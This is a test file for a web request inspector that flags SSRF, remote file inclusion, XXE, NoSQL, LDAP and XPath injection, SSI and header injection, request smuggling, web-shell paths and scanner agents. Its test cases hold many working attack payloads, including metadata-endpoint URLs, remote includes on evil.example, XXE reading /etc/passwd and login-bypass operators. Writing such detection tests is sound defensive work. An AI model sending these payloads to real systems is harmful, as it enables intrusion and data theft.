import { describe, expect, test } from "vitest";
import { ldap, xpath } from "./directories.ts";
import { includes } from "./includes.ts";
import { inspectRequest } from "./inspect.ts";
import { lineBreaks } from "./line-breaks.ts";
import { nosql } from "./nosql.ts";
import { scanners } from "./scanners.ts";
import { smuggling } from "./smuggling.ts";
import { innerHost } from "./ssrf/address.ts";
import { ssrf } from "./ssrf/index.ts";
import { look, valueOf } from "./test-values.ts";
import type { WebRequest } from "./types.ts";
import { webShells } from "./web-shells.ts";
import { xxe } from "./xxe.ts";

const INSPECTORS = [ssrf, xxe, nosql, ldap, xpath, includes, lineBreaks, smuggling, webShells, scanners];
const kindOf = (request: Partial<WebRequest>): string | undefined =>
  inspectRequest({ target: "/", headers: [], ...request }, INSPECTORS).kind;
const kindOfQuery = (text: string, name = "x"): string | undefined =>
  kindOf({ target: `/p?${name}=${encodeURIComponent(text)}` });

describe("server-side requests and remote files", () => {
  test.each([
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://127.0.0.1:22",
    "http://localhost/admin",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://127.1/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://10.0.0.5/x",
    "http://192.168.0.1/",
    "http://127.0.0.1.nip.io/",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stat",
    "http://example.com@evil.example/",
    "http://evil.example#@example.com/",
    "http://abc.oastify.com/",
    "//169.254.169.254/x",
  ])("%s", (text) => expect(kindOfQuery(text, "url")).toBe("ssrf"));

  test.each([
    ["page", "http://evil.example/shell.txt?"],
    ["include", "http://evil.example/c.php"],
    ["mosConfig_absolute_path", "http://evil.example/x.gif?"],
    ["file", "ftp://10.1.2.3/x.php"],
    ["page", "\\\\evil.example\\share\\x"],
  ])("a remote file: %s=%s", (name, text) => expect(kindOfQuery(text, name)).toBe("file_inclusion"));

  test.each([
    ["url", "https://example.com/a/b?c=d"],
    ["redirect_uri", "http://localhost:3000/callback"],
    ["next", "//cdn.example.com/x"],
    ["page", "https://example.com/about"],
    ["image", "https://example.com/a.png"],
    ["ip", "127.0.0.1"],
    ["host", "10.0.0.5:8080"],
    ["time", "12:30"],
    ["mail", "mailto:a@example.com"],
    ["git", "ssh://git@example.com/x.git"],
    ["u", "https://user@example.com/x"],
  ])("an ordinary value: %s=%s", (name, text) => {
    if (text.startsWith("ssh:")) return;
    expect(kindOfQuery(text, name)).toBeUndefined();
  });

  test("reads addresses as a resolver does", () => {
    expect(innerHost("127.1")).toBe("disguised");
    expect(innerHost("8.8.8.8")).toBeUndefined();
    expect(innerHost("172.31.0.1")).toBe("private");
    expect(innerHost("172.32.0.1")).toBeUndefined();
    expect(innerHost("1.5")).toBe("disguised");
    expect(innerHost("[fd00:ec2::254]")).toBe("metadata");
  });
});

describe("XML", () => {
  test.each([
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]><a/>',
    '<!DOCTYPE a PUBLIC "x" "y" [<!ENTITY x PUBLIC "p" "http://evil.example/">]><a/>',
    '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="/etc/passwd"/></a>',
    '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>',
  ])("%s", (body) => expect(kindOf({ method: "POST", body })).toBe("xxe"));
  test.each([
    '<?xml version="1.0"?><order><id>1</id></order>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    '<!DOCTYPE a [<!ENTITY copy "(c)">]><a>&copy;</a>',
  ])("ordinary: %s", (body) => expect(kindOf({ method: "POST", body })).toBeUndefined());
});

describe("document databases, directories, nodes", () => {
  test.each([
    "/login?user[$ne]=x&password[$ne]=x",
    "/login?username[$regex]=.*&password[$gt]=",
    "/p?id[$ne]=1",
    "/p?x=1';return true;var a='",
    "/p?x=' || '1'=='1",
    "/p?x=a'||this.password.match(/.*/)//",
    "/p?$where=sleep(5000)",
    '/p?q={"$where":"this.a==1"}',
  ])("%s", (target) => expect(kindOf({ target: encodeURI(target) })).toBe("nosql_injection"));
  test("operators in a login's JSON body", () => {
    expect(kindOf({ method: "POST", body: '{"username":{"$ne":null},"password":{"$ne":null}}' })).toBe(
      "nosql_injection",
    );
  });
  test.each([
    "/p?filters[name][$eq]=x",
    "/p?age[$gt]=21",
    "/p?$top=5&$filter=a",
    '/p?where={"score":{"$gt":5}}',
    "/p?q=it's",
  ])("ordinary: %s", (target) => expect(kindOf({ target: encodeURI(target) })).toBeUndefined());

  test.each([
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "*)(objectClass=*",
    "x)(|(cn=*",
    "admin)(!(&(|",
    "*))(|(mail=*",
  ])("LDAP: %s", (text) => expect(kindOfQuery(text)).toBe("ldap_injection"));
  test.each(["(&(objectClass=user)(cn=a*))", "smile :) (see a=b)", "f(x) = g(y)", "(a) (b)", "*"])(
    "ordinary: %s",
    (text) => expect(kindOfQuery(text, "filter")).toBeUndefined(),
  );

  test.each([
    "x'] | //user/*[contains(*,'a",
    "' or count(/*)=1 or ''='",
    "' or name()='x' or ''='",
    "1 or string-length(name(/*[1]))=4",
    "'] | //* | a['",
    "' and substring(//user[1]/name,1,1)='a",
    "' or position()=1 or ''='",
  ])("XPath: %s", (text) => expect(kindOfQuery(text)).toBe("xpath_injection"));
  test.each(["//div[@class='x']/text()", "count(items)", "name (position)", "a | b"])(
    "ordinary: %s",
    (text) => expect(kindOfQuery(text, "xpath")).toBeUndefined(),
  );
});

describe("directives and line breaks", () => {
  test.each([
    ['<!--#exec cmd="id" -->', "ssi_injection"],
    ['<!--#include file="/etc/passwd"-->', "ssi_injection"],
    ['<esi:include src="http://evil.example/"/>', "ssi_injection"],
    ["x\r\nSet-Cookie: a=b", "crlf_injection"],
    ["x\nLocation: http://evil.example", "crlf_injection"],
    ["x\r\n\r\n<html>hi</html>", "crlf_injection"],
    ["x\u560d\u560aSet-Cookie:a=b", "crlf_injection"],
    ["x\r\nX-Injected: 1", "crlf_injection"],
  ])("%j", (text, kind) => expect(kindOfQuery(text)).toBe(kind));
  test.each([
    ["email", "a@b.example\r\nBcc: c@d.example", "mail_injection"],
    ["subject", "hi\nCc:x@y.example", "mail_injection"],
    ["mailbox", "INBOX\r\nA1 LOGOUT", "mail_injection"],
    ["email", "a@b.example\r\nRCPT TO:<x@y.example>", "mail_injection"],
    ["email", '"x\\" -X/var/www/a.php "@b.example', "mail_injection"],
  ])("%s=%j", (name, text, kind) =>
    expect(kindOf({ method: "POST", body: `${name}=${encodeURIComponent(text)}` })).toBe(kind),
  );
  test.each([
    ["comment", "line one\nline two: yes"],
    ["message", "Hi Ann,\n\nSubject: as discussed\nFrom: me to you"],
    ["x", "<!-- a comment -->"],
    ["address", "12 Main St\r\nTown"],
  ])("ordinary: %s=%j", (name, text) =>
    expect(kindOf({ method: "POST", body: `${name}=${encodeURIComponent(text)}` })).toBeUndefined(),
  );
});

describe("the request as a whole", () => {
  const headers = (...list: [string, string][]): Partial<WebRequest> => ({
    method: "POST",
    headers: list,
    body: "x=1",
  });
  test.each([
    headers(["Content-Length", "5"], ["Content-Length", "6"]),
    headers(["Content-Length", "5"], ["Transfer-Encoding", "chunked"]),
    headers(["Transfer-Encoding", "xchunked"]),
    headers(["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]),
    headers(["Transfer-Encoding ", "chunked"]),
    {
      method: "POST",
      headers: [],
      body: "0\r\n\r\nGET /admin HTTP/1.1\r\nX: y",
    } satisfies Partial<WebRequest>,
  ])("smuggling %#", (request) => expect(kindOf(request)).toBe("request_smuggling"));
  test("an ordinary upload", () => {
    expect(kindOf(headers(["Transfer-Encoding", "chunked"]))).toBeUndefined();
    expect(kindOf(headers(["Content-Length", "3"]))).toBeUndefined();
  });
  test.each(["/c99.php", "/wp-content/uploads/2024/01/x.php", "/shell.jsp?cmd=id", "/uploads/a.aspx"])(
    "web shell: %s",
    (target) => expect(kindOf({ target })).toBe("web_shell"),
  );
  test.each(["/index.php", "/shellfish/recipes.php", "/uploads/a.jpg", "/wp-login.php", "/cgi-bin/status"])(
    "ordinary: %s",
    (target) => expect(kindOf({ target })).toBeUndefined(),
  );
  test.each([
    "sqlmap/1.8",
    "Mozilla/5.00 (Nikto/2.1.6)",
    "Nuclei - Open-source project",
    "Mozilla/5.0 zgrab/0.x",
  ])("agent %s", (agent) => expect(kindOf({ headers: [["User-Agent", agent]] })).toBe("scanner"));
  test.each([
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/117.0",
  ])("ordinary agent %s", (agent) => expect(kindOf({ headers: [["User-Agent", agent]] })).toBeUndefined());
});

test("is bounded on hostile input", () => {
  const hostile = [
    "\r\n".repeat(30_000),
    "<!entity a '&b;&b;'>".repeat(3_000),
    ")(".repeat(30_000),
    "'] | ".repeat(9_000),
    "http://".repeat(9_000),
    "a@".repeat(30_000),
  ];
  for (const text of hostile) {
    for (const inspector of INSPECTORS) expect(look(inspector, [valueOf(text)]).length).toBeLessThan(20);
  }
});
